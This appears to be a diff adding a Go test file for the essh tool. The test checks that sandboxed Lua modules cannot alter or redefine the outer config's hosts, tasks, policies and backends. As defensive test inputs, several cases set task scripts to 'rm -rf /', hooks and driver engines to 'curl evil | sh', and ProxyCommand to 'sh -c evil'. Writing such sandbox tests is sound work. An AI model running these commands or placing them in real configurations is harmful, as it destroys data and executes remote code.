@@ -0,0 +1,140 @@
+package essh
+
+import (
+	"github.com/yuin/gopher-lua"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// testSandboxConfig is the config outside the sandbox that the modules try to change.
+const testSandboxConfig = `
+host "web01" { props = { role = "web" } }
+task "deploy" { script = "echo deploy" }
+policy "no-friday" { check = function(ctx) return "deny", "no deploy on friday" end }
+backend "container" { command = function(ctx) return {"docker", "exec", "-i", ctx.host.name, "sh"} end }
+`
+
+func doTestSandboxedString(t *testing.T, code string) (*lua.LState, error) {
+	dir, err := ioutil.TempDir("", "essh.sandbox_test.")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	initResources()
+	CurrentRegistry = NewRegistry(dir, RegistryTypeLocal)
+
+	L := lua.NewState()
+	InitLuaState(L)
+	if err := L.DoString(testSandboxConfig); err != nil {
+		t.Fatal(err)
+	}
+
+	m := NewModule(L, "example.com/sandbox")
+	if err := os.MkdirAll(m.Dir(), 0755); err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(m.Dir(), "index.lua")
+	if err := ioutil.WriteFile(file, []byte(code), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	return L, doSandboxedFile(L, m, file)
+}
+
+func TestSandboxViolations(t *testing.T) {
+	defer func() {
+		initResources()
+		CurrentRegistry = nil
+	}()
+
+	cases := []string{
+		// 'import' evaluates the package outside the sandbox.
+		`import "github.com/kohkimakimoto/essh-example"`,
+		// the string metatable is shared with the config outside the sandbox.
+		`getmetatable("").__index.rep = function() return "" end`,
+		`setmetatable("", { __index = { rep = function() return "" end } })`,
+		// the hosts and tasks of the config are read-only.
+		`essh.get_host("web01").hidden = true`,
+		`essh.get_host("web01") { hidden = true }`,
+		`essh.get_task("deploy").script = "rm -rf /"`,
+		`essh.get_task("deploy") { script = "rm -rf /" }`,
+		`for _, h in ipairs(essh.select_hosts("web01"):get()) do h.ProxyCommand = "sh -c evil" end`,
+		`essh.select_hosts("web01"):first().ProxyCommand = "sh -c evil"`,
+		`essh.select_hosts():filter("web01"):get()[1] { ProxyCommand = "sh -c evil" }`,
+		`essh.current_registry().data_dir = "/tmp"`,
+		`group { ProxyCommand = "sh -c evil", essh.get_host("web01") }`,
+		// the hosts, tasks and drivers of the config can't be redefined.
+		`host "web01" { HostName = "evil", hooks_before_connect = {"curl evil | sh"} }`,
+		`essh.host("web01", { HostName = "evil" })`,
+		`task "deploy" { script = "curl evil | sh" }`,
+		`driver "default" { engine = "curl evil | sh" }`,
+		`driver { engine = "curl evil | sh" }`,
+		// the policies and backends of the config can't be redefined.
+		`policy "no-friday" { check = function(ctx) return "allow" end }`,
+		`essh.policy("no-friday", function(ctx) return "allow" end)`,
+		`backend "container" { command = function(ctx) return {"sh"} end }`,
+		`essh.backend("container", { command = function(ctx) return {"sh"} end })`,
+		`essh.ssh_config = "/tmp/ssh_config"`,
+		`os.execute("true")`,
+		`require("sh")`,
+		`debug.getinfo(1)`,
+		`setfenv(1, {})`,
+	}
+
+	for _, code := range cases {
+		L, err := doTestSandboxedString(t, code)
+		L.Close()
+		if err == nil || !strings.Contains(err.Error(), "sandbox violation") {
+			t.Errorf("a sandbox violation expected by '%s', but got '%v'", code, err)
+		}
+	}
+}
+
+func TestSandboxCanNotReachRealTables(t *testing.T) {
+	defer func() {
+		initResources()
+		CurrentRegistry = nil
+	}()
+
+	L, err := doTestSandboxedString(t, `
+local mt = getmetatable(essh)
+assert(type(mt) ~= "table", "the metatable of 'essh' is returned")
+
+-- the props are copied.
+local props = essh.get_host("web01").props
+props.role = "db"
+assert(essh.get_host("web01").props.role == "web")
+
+-- the hosts can be selected and read.
+assert(essh.select_hosts("web01"):first().props.role == "web")
+assert(#essh.select_hosts("web01"):get() == 1)
+assert(essh.current_registry():type() ~= nil)
+
+-- the new hosts, tasks, drivers, policies and backends can be defined.
+host "module-host" { HostName = "192.168.0.99" }
+task "module-task" { script = "echo module" }
+driver "module-driver" { engine = "{{template \"environment\" .}}" }
+group { description = "module group", host "module-host2" {} }
+policy "module-policy" { check = function(ctx) return "allow" end }
+backend "module-backend" { command = function(ctx) return {"sh"} end }
+`)
+	defer L.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if role := Hosts["web01"].LValues["props"].(*lua.LTable).RawGetString("role").String(); role != "web" {
+		t.Errorf("'web' expected, but got '%s'", role)
+	}
+
+	if len(Policies) != 2 {
+		t.Errorf("2 policies expected, but got %d", len(Policies))
+	}
+	if Backends["module-backend"] == nil {
+		t.Error("backend 'module-backend' expected, but got nil")
+	}
+}